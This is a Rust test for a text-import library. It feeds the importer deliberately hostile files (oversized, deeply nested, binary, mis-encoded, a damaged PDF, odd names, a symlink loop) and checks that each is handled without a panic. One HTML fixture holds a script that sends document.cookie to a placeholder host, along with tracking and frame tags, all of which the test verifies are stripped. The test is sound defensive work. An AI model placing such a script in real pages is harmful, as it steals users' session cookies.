//! Files from anywhere: every hostile file below is made by the test itself,
//! imported beside an ordinary report, and must give a per-file reason or
//! warning while the ordinary report still imports and nothing panics.

use corroborate_core::corpus::{ImportOptions, ImportReport, import_paths};
use corroborate_core::progress::Silent;
use std::path::Path;

const GOOD: &str = "Harbour fire – Coast Herald\n\nThe fire at the harbour began at 9 p.m. on Friday, the fire service said.\n";

fn import(dir: &Path) -> ImportReport {
    import_paths(
        &[dir.to_path_buf()],
        &[],
        &ImportOptions::default(),
        &Silent,
    )
    .unwrap()
}

fn write(dir: &Path, name: &str, bytes: &[u8]) {
    std::fs::write(dir.join(name), bytes).unwrap();
}

/// The reason a file was skipped, or its import warnings.
fn said(report: &ImportReport, name: &str) -> String {
    if let Some(s) = report.skipped.iter().find(|s| s.path.ends_with(name)) {
        return s.reason.clone();
    }
    report
        .sources
        .iter()
        .find(|s| s.path.ends_with(name))
        .map(|s| s.warnings.join("; "))
        .unwrap_or_else(|| panic!("{name} is neither imported nor listed"))
}

#[test]
fn a_folder_of_hostile_files_imports_what_it_can_and_says_why_not() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    write(d, "good.txt", GOOD.as_bytes());

    // 200 MB of text: refused by its size before it is read (a sparse file,
    // so the test writes nothing).
    let big = std::fs::File::create(d.join("huge.txt")).unwrap();
    big.set_len(200 * 1024 * 1024).unwrap();
    drop(big);

    // 100,000 sentences and no line break.
    let one_line = "The river rose again overnight and the bridge stayed shut. ".repeat(100_000);
    write(d, "one-line.txt", one_line.as_bytes());

    // 10,000 levels of nested elements around one paragraph.
    let deep = format!(
        "<html><body>{}<p>The dam held through the night, engineers said.</p>{}</body></html>",
        "<div>".repeat(10_000),
        "</div>".repeat(10_000)
    );
    write(d, "deep.html", deep.as_bytes());

    // Scripts, frames, remote images and javascript: links: kept out of the text.
    write(
        d,
        "active.html",
        br#"<html><head><title>Ferry aground | Bay Post</title>
<script>document.location='https://example.invalid/steal?'+document.cookie</script>
<meta http-equiv="refresh" content="0; url=https://example.invalid/"></head>
<body><p>The ferry ran aground at dawn.<img src="https://example.invalid/pixel.gif"></p>
<iframe src="https://example.invalid/frame"></iframe>
<a href="javascript:alert(1)">Click here for more coverage of the ferry</a>
<object data="https://example.invalid/x.swf"></object></body></html>"#,
    );

    // Not text at all, under a text name; broken encodings; nothing.
    let mut binary = b"\x7fELF\x02\x01\x01\0".to_vec();
    binary.extend((0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
    write(d, "binary.txt", &binary);
    write(d, "empty.txt", b"");
    write(
        d,
        "bad-utf8.txt",
        b"Storm \xF0\x28\x8C\x28 hits the coast \xFF\xFE and the port closes.",
    );
    let utf16: Vec<u8> = [0xFE, 0xFF]
        .into_iter()
        .chain(
            "Storm closes the port – Tide Times\n\nThe port closed on Sunday."
                .encode_utf16()
                .flat_map(u16::to_be_bytes),
        )
        .collect();
    write(d, "utf16-be.txt", &utf16);

    // PDFs that cannot give text: damaged, and not a PDF past its header.
    write(
        d,
        "damaged.pdf",
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer <<",
    );

    // Odd names.
    write(
        d,
        "  spaced  name .txt",
        GOOD.replace("Friday", "Saturday").as_bytes(),
    );
    write(
        d,
        "ünïcödé ✓ – report.txt",
        GOOD.replace("Friday", "Sunday").as_bytes(),
    );
    #[cfg(unix)]
    write(
        d,
        "new\nline.txt",
        GOOD.replace("Friday", "Monday").as_bytes(),
    );

    // A folder that links back to itself.
    #[cfg(unix)]
    {
        std::fs::create_dir(d.join("loop")).unwrap();
        std::os::unix::fs::symlink(d, d.join("loop").join("back")).unwrap();
    }

    let report = import(d);
    let imported: Vec<&str> = report
        .sources
        .iter()
        .map(|s| s.path.rsplit('/').next().unwrap_or(&s.path))
        .collect();
    assert!(imported.contains(&"good.txt"), "{imported:?}");
    assert!(imported.contains(&"  spaced  name .txt"), "{imported:?}");
    assert!(imported.contains(&"ünïcödé ✓ – report.txt"), "{imported:?}");
    #[cfg(unix)]
    assert!(imported.contains(&"new\nline.txt"), "{imported:?}");

    assert!(
        said(&report, "huge.txt").contains("MB"),
        "{}",
        said(&report, "huge.txt")
    );
    assert!(said(&report, "binary.txt").contains("binary"));
    assert!(said(&report, "empty.txt").contains("empty"));
    assert!(
        !said(&report, "bad-utf8.txt").is_empty(),
        "invalid bytes are reported"
    );
    assert!(!said(&report, "damaged.pdf").is_empty());

    let source = |name: &str| {
        report
            .sources
            .iter()
            .find(|s| s.path.ends_with(name))
            .unwrap_or_else(|| panic!("{name} was not imported: {:?}", report.skipped))
    };
    assert!(source("one-line.txt").cleaned.len() > 5_000_000);
    assert_eq!(
        &*source("deep.html").cleaned,
        "The dam held through the night, engineers said."
    );
    let active = &source("active.html").cleaned;
    assert!(active.contains("The ferry ran aground at dawn."));
    assert!(!active.contains("document"), "{active}");
    assert!(!active.contains("example.invalid"), "{active}");
    assert!(
        source("utf16-be.txt")
            .cleaned
            .contains("The port closed on Sunday.")
    );

    // Every file is accounted for: imported, or listed with its reason.
    let files = std::fs::read_dir(d)
        .unwrap()
        .filter(|e| e.as_ref().is_ok_and(|e| e.path().is_file()))
        .count();
    assert_eq!(
        report.sources.len() + report.skipped.len(),
        files,
        "{:?}",
        report.skipped
    );

    // The whole lot analyses without a panic.
    let project = corroborate_core::project::Project {
        sources: report.sources,
        ..Default::default()
    };
    let analysis = corroborate_core::analysis::analyze(&project, &Silent).unwrap();
    assert!(!analysis.entities.is_empty());
}
